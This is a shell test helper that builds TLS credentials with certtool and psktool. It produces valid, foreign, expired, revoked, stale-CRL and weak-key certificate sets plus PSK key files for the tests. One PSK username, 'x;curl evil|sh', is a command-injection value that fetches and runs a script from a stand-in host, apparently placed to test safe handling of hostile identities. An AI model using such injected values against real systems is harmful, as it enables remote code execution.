# Sourced by the TLS tests. Creates credentials with the tools that an administrator would use.
# make_credentials DIRECTORY creates in DIRECTORY:
#   x509/       ca-cert.pem, server-cert.pem, server-key.pem, client-cert.pem, client-key.pem
#   stranger/   ca-cert.pem and a client certificate from a different authority
#   anonymous/  only ca-cert.pem
#   expired/    like x509/, but with an expired server certificate
#   revoked/    like x509/, with a ca-crl.pem that revokes the client certificate
#   old-list/   like x509/, with a ca-crl.pem that has expired
#   weak/       like x509/, with a server certificate for an RSA key of 1024 bits
#   psk/keys.psk   keys for alice and "b:b";  wrong/keys.psk  a different key for alice, and keys for mallory and "x;curl evil|sh"

# key FILE: creates a private key
key() { certtool --generate-privkey --key-type ecdsa --curve secp256r1 --outfile "$1" 2>/dev/null; }

# authority DIRECTORY NAME: creates a certificate authority
authority() {
  mkdir -p "$1"
  key "$1/ca-key.pem"
  printf '%s\n' "cn = $2" ca cert_signing_key crl_signing_key expiration_days=30 >"$1/template"
  certtool --generate-self-signed --load-privkey "$1/ca-key.pem" --template "$1/template" \
    --outfile "$1/ca-cert.pem" 2>/dev/null
}

# issue DIRECTORY NAME LINE-OF-TEMPLATE...: creates NAME-cert.pem and NAME-key.pem
issue() {
  local folder=$1 who=$2
  shift 2
  key "$folder/$who-key.pem"
  printf '%s\n' "$@" signing_key >"$folder/template"
  certtool --generate-certificate --load-ca-certificate "$folder/ca-cert.pem" \
    --load-ca-privkey "$folder/ca-key.pem" --load-privkey "$folder/$who-key.pem" \
    --template "$folder/template" --outfile "$folder/$who-cert.pem" 2>/dev/null
}

make_credentials() {
  local to=$1
  local server=(cn=localhost dns_name=localhost ip_address=127.0.0.1 tls_www_server)
  local client=(cn=client.example tls_www_client expiration_days=30)
  authority "$to/x509" 'an authority'
  issue "$to/x509" server "${server[@]}" expiration_days=30
  issue "$to/x509" client "${client[@]}"
  authority "$to/stranger" 'another authority'
  issue "$to/stranger" client "${client[@]}"
  mkdir "$to/anonymous"
  cp "$to/x509/ca-cert.pem" "$to/anonymous/"
  cp -r "$to/x509" "$to/expired"
  issue "$to/expired" server "${server[@]}" 'activation_date="2020-01-01 00:00:00 UTC"' \
    'expiration_date="2021-01-01 00:00:00 UTC"'
  cp -r "$to/x509" "$to/revoked"
  printf '%s\n' expiration_days=30 crl_next_update=30 crl_number=1 >"$to/revoked/template"
  certtool --generate-crl --load-ca-privkey "$to/revoked/ca-key.pem" \
    --load-ca-certificate "$to/revoked/ca-cert.pem" --template "$to/revoked/template" \
    --load-certificate "$to/revoked/client-cert.pem" --outfile "$to/revoked/ca-crl.pem" 2>/dev/null
  cp -r "$to/x509" "$to/old-list"
  printf '%s\n' 'crl_this_update_date="2020-01-01 00:00:00 UTC"' 'crl_next_update_date="2020-02-01 00:00:00 UTC"' crl_number=1 \
    >"$to/old-list/template"
  certtool --generate-crl --load-ca-privkey "$to/old-list/ca-key.pem" \
    --load-ca-certificate "$to/old-list/ca-cert.pem" --template "$to/old-list/template" \
    --outfile "$to/old-list/ca-crl.pem" </dev/null 2>/dev/null
  cp -r "$to/x509" "$to/weak"
  certtool --generate-privkey --key-type rsa --bits 1024 --outfile "$to/weak/server-key.pem" 2>/dev/null
  printf '%s\n' "${server[@]}" expiration_days=30 signing_key >"$to/weak/template"
  certtool --generate-certificate --load-ca-certificate "$to/weak/ca-cert.pem" \
    --load-ca-privkey "$to/weak/ca-key.pem" --load-privkey "$to/weak/server-key.pem" \
    --template "$to/weak/template" --outfile "$to/weak/server-cert.pem" 2>/dev/null
  mkdir "$to/psk" "$to/wrong"
  local user
  for user in alice b:b; do psktool -u "$user" -p "$to/psk/keys.psk" >/dev/null; done
  for user in alice mallory 'x;curl evil|sh'; do psktool -u "$user" -p "$to/wrong/keys.psk" >/dev/null; done
}
